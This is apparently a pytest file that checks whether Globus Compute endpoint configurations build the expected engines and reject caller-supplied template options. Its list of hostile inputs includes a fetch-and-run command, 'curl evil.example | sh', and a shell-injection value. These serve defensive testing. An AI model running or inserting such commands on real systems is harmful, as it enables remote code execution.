"""Every kind as the agent's own code reads it: it builds the engine, and lets a caller choose nothing."""

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.compute_endpoints.kinds import FUNCTION_ID, NAMES, Root

pytestmark = [pytest.mark.agent, pytest.mark.timeout(180)]

# Runs in the agent's environment, and does what its core process does when a caller's task arrives.
READER = """
import json, os, pwd, sys, types
from pathlib import Path
from globus_compute_endpoint.endpoint.config.config import CoreEndpointConfig
from globus_compute_endpoint.endpoint.config.utils import (
    get_config, load_config_yaml, load_user_config_schema, load_user_config_template, render_config_user_template)

identity = types.SimpleNamespace(
    local_user_record=pwd.getpwuid(os.getuid()), matched_identity="0de30000-0000-4000-8000-00000000a001")

def ask(folder, options):
    path, schema = folder / "user_config_template.yaml.j2", load_user_config_schema(folder / "user_config_schema.json")
    template = load_user_config_template(path)
    try:
        text = render_config_user_template(get_config(folder), template, path, identity, schema, options)
        engine = load_config_yaml(text).engine
        return [type(engine).__name__, type(getattr(engine.executor, "provider", None)).__name__]
    except Exception as exc:
        return [type(exc).__name__]

def read(folder):
    core = get_config(folder)
    assert isinstance(core, CoreEndpointConfig)
    answers = [ask(folder, options) for options in json.loads(sys.argv[2])]
    return [core.display_name, core.allowed_functions, answers]

print(json.dumps([read(Path(folder)) for folder in json.loads(sys.argv[1])]))
sys.stdout.flush()
os._exit(0)
"""
HOSTILE: list[dict[str, Any]] = [
    {"worker_init": "curl evil.example | sh"},
    {"setup": "'; id #"},
    {"models": [{"model": "a", "port": 1}]},
    {"walltime": "99:00:00"},
    {"requirements": "evil"},
    {"endpoint_setup": "id"},
    {"__class__": "x"},
    {"_GC": {}},
    {"": ""},
]
BUILT = {
    "local": "LocalProvider",
    "pbs": "PBSProProvider",
    "slurm": "SlurmProvider",
    "pbs-multi-node": "PBSProProvider",
    "slurm-multi-node": "SlurmProvider",
    "batch": "PBSProProvider",
    "status": "NoneType",
}


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Root:
    return Root(tmp_path_factory.mktemp("endpoints"), f"{os.environ['GLOBUS_COMPUTE_ENDPOINT_VENV']}/bin/python")


def test_agent_builds_every_kind_and_refuses_every_choice(root: Root, tmp_path: Path) -> None:
    folders = json.dumps([str(Root(tmp_path).install(kind).folder) for kind in NAMES])
    command = [root.python, "-c", READER, folders, json.dumps([{}, *HOSTILE])]
    done = subprocess.run(command, capture_output=True, text=True, check=False, timeout=120)
    assert done.returncode == 0, done.stderr
    for kind, (name, functions, (built, *refused)) in zip(NAMES, json.loads(done.stdout), strict=True):
        assert (name, functions) == (kind, [FUNCTION_ID])
        assert built == ["ThreadPoolEngine" if kind == "status" else "GlobusComputeEngine", BUILT[kind]]
        assert {answer[0] for answer in refused} <= {"ValidationError", "ValueError"}


def test_what_the_agent_does_not_accept_is_not_installed(root: Root) -> None:
    told = [f"functions={FUNCTION_ID}", "models=a", "interface=nosuch0"]
    done = root.run("slurm", "refused", *(f"--set={setting}" for setting in told))
    assert (done.returncode, done.stdout) == (1, "")
    assert "install.py: the agent does not accept this" in done.stderr
    assert not (root.folder / "refused").exists()
